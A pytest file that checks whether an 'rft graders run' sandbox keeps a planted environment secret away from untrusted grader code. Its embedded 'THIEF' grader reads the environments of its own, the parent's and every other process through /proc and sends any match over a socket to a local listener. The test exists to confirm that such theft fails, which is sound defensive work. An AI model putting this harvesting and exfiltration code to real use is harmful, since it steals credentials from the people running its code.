"""`rft graders run` with ``SECRET=hunter2`` in its real environment: a hostile python grader
looks for it everywhere it could and tries to send it out; it finds nothing and sends nothing.

Unlike `test_python_sandbox.py` (which sets the secret with monkeypatch, invisible in
``/proc/<pid>/environ``), the CLI here is a fresh process that starts with the secret.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from rft.sandbox import host_support

pytestmark = pytest.mark.skipif(
    host_support() is not None, reason=f"no strong sandbox on this host: {host_support()}"
)

ROOT = Path(__file__).resolve().parents[2]

THIEF = r"""
import os, socket

def found(data):
    at = data.find(b"hunter2")
    try:
        s = socket.create_connection(("127.0.0.1", PORT), timeout=1)
        s.sendall(data)
    finally:
        raise RuntimeError(data[at - 7 : at + 7])  # short, so no truncation hides it

def grade(sample, item):
    kind = sample["output_text"]
    if kind == "ppid":
        data = open(f"/proc/{os.getppid()}/environ", "rb").read()
    elif kind == "cli_pid":
        data = open(f"/proc/{item['cli_pid']}/environ", "rb").read()
    elif kind == "scan":
        data = b"".join(open(f"/proc/{p}/environ", "rb").read() for p in os.listdir("/proc")
                        if p.isdigit())
    elif kind == "self":
        data = repr(dict(os.environ)).encode()
    else:
        data = open(kind, "rb").read()
    if b"hunter2" in data:
        found(data)
    raise RuntimeError("nothing found")
"""

KINDS = ["ppid", "cli_pid", "scan", "self", "/proc/self/environ", "/proc/1/environ"]


def test_graders_run_leaks_no_secret(tmp_path):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.05)
    source = THIEF.replace("PORT", str(listener.getsockname()[1]))
    bundle = tmp_path / "thief.json"
    bundle.write_text(
        json.dumps({"type": "python", "name": "thief", "source": source, "workers": 1})
    )
    # The CLI's pid is unknown before it starts: the shell's pid becomes the CLI's via exec.
    data = tmp_path / "data.jsonl"
    samples = tmp_path / "samples.jsonl"
    samples.write_text("".join(json.dumps(k) + "\n" for k in KINDS))
    out = tmp_path / "out.csv"
    script = (
        f"printf '{{\"cli_pid\": %d}}\\n' $$ $$ $$ $$ $$ $$ > {data} && exec {sys.executable} -m "
        f"rft.cli.main graders run {bundle} --data {data} --samples {samples} --json --out {out}"
    )
    env = {**os.environ, "SECRET": "hunter2", "PYTHONPATH": str(ROOT)}
    proc = subprocess.run(
        ["/bin/sh", "-c", script], env=env, capture_output=True, text=True, timeout=120, check=False
    )
    with pytest.raises(TimeoutError):
        listener.accept()
    listener.close()
    results = [json.loads(line) for line in proc.stdout.splitlines() if line.startswith("{")]
    assert [r["reward"] for r in results] == [0.0] * len(KINDS), proc.stdout + proc.stderr
    assert all(r["metadata"]["errors"]["python_grader_runtime_error"] for r in results)
    written = out.read_text() if out.exists() else ""
    assert "hunter2" not in proc.stdout + proc.stderr + written
